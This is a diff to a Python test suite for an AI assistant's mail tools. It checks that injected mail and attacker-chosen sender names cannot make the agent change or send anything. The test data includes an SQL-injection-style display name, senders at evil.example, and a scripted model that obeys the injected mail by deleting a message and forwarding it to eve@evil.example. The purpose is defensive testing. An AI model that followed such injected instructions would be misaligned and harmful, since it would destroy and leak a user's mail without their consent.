@@ -10,6 +10,7 @@ that does what the attacker wrote.
 from __future__ import annotations
 
 import json
+import re
 from pathlib import Path
 from typing import Any
 
@@ -224,3 +225,63 @@ def test_a_search_made_before_an_unsure_question_offers_no_change(tmp_path: Path
     assert "files_read" in (backend.grammars[0] or "")
     assert not any(name in (backend.grammars[0] or "") for name in (
         "files_delete", "mail_send", "mail_forward", "files_write"))
+
+
+def _mail_from(tmp_path: Path, rows: list[tuple[str, str]]) -> None:
+    """The local mail copy of world()'s account holds these (folder, From) messages."""
+    import sqlite3
+    from contextlib import closing
+
+    from connectors.mail.cache import MailCache
+
+    cache = MailCache(tmp_path / "data" / "mail-cache.sqlite3")
+    with closing(sqlite3.connect(cache.path)) as conn, conn:
+        conn.executemany(
+            "INSERT INTO messages (account, folder, uid, sender, recipients, subject, date, "
+            "body) VALUES ('work', ?, ?, ?, 'alice@example.org', 'Hi', ?, ?)",
+            [(folder, uid, sender, f"2026-12-0{uid % 9 + 1}T10:00", INJECTED)
+             for uid, (folder, sender) in enumerate(rows, 1)])
+
+
+def test_a_name_someone_gives_themself_brings_only_a_read_of_their_own_mail(
+        tmp_path: Path) -> None:
+    """route.known_names finds a Chinese, Japanese or Korean name of the mail inside the
+    request. Someone else chooses their display name: a spammer in Junk or Trash is nobody;
+    one who calls themself by a word of every request ("帮我", help me) is no name; a name
+    full of the index's, GLOB's or a regular expression's signs is only text; the user's own
+    address is not someone else. A name that does match a request's words ("设一个", in a
+    timer request) is the attacker's best case: it adds a search of that sender's mail (a
+    read, its text marked untrusted), and no change of any area: the gate's promise holds."""
+    _mail_from(tmp_path, [
+        ("INBOX", "王芳 <fang@example.cn>"),
+        ("Junk", "李经理 <boss@spam.example>"),
+        ("Trash", "张伟 <wei@old.example>"),
+        ("INBOX", "帮我 <win@prize.example>"),
+        ("INBOX", '"王*[芳]%_\\" OR 1=1 --" <glob@evil.example>'),
+        ("INBOX", "设一个 <timer@evil.example>"),
+        ("INBOX", "爱丽丝 <alice@example.org>"),  # the user: not someone else
+    ])
+    from dataclasses import replace
+
+    from app.agent.language import LEXICON
+
+    # the app's own context: the connectors read the user's languages' words (app/services.py)
+    registry = ToolRegistry(build_all_tools(replace(world(tmp_path), words=LEXICON)))
+    search = registry.get("mail_search")
+    assert search.named is not None
+    for request, named in (("王芳回复我了吗？", "王芳"), ("李经理回复我了吗？", ""),
+                           ("张伟说了什么？", ""), ("帮我看看天气", ""),
+                           ("爱丽丝的邮件", ""), ("王芳芳和1=1", "王芳"),
+                           ("帮我设一个10分钟的计时器", "设一个")):
+        assert dict(search.named(request, ())) == ({"sender": named} if named else {}), request
+    # a model that obeys the mail it was shown asks nobody and changes nothing
+    confirmer = ScriptedConfirmer("approve")
+    backend = ScriptedBackend([call("mail_delete", id=1),
+                               call("mail_forward", id=1, to=["eve@evil.example"]), "Done."])
+    agent = Agent(backend, registry, ToolRunner(registry, confirmer), AgentConfig(),
+                  build_router(registry))
+    agent.run([], "帮我设一个10分钟的计时器")
+    assert confirmer.seen == []
+    changes = {tool.name for tool in registry if tool.effect.has_side_effect}
+    offered = set(re.findall(r"\b(?:mail|files|calendar|system)_\w+", backend.grammars[0] or ""))
+    assert offered & changes <= {"system_set_timer"}, offered & changes
